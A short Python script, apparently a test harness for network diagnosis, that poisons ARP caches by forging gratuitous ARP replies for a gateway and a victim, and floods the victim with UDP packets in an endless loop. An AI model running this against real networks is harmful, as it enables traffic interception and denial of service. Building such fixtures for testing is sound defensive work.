"""Floods the network from a container: hostile_neighbour.py GATEWAY VICTIM.

Gratuitous ARP for the gateway and for another container, answers that nobody asked for, and UDP from and to all the
ports that a diagnosis may use, as fast as it goes. It prints a line once it has begun.
"""
import random
import socket
import struct
import sys

gateway, victim = (socket.inet_aton(one) for one in sys.argv[1:3])
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind(("eth0", 0x0806))
mac = link.getsockname()[4]
datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print("ready", flush=True)
while True:
    for address in (gateway, victim):
        for operation in (1, 2):
            link.send(b"\xff" * 6 + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
                      + mac + address + b"\xff" * 6 + address)
    for _ in range(8):
        try:
            datagrams.sendto(b"x" * 64, (socket.inet_ntoa(victim), random.randrange(20480, 32768)))
        except OSError:
            pass
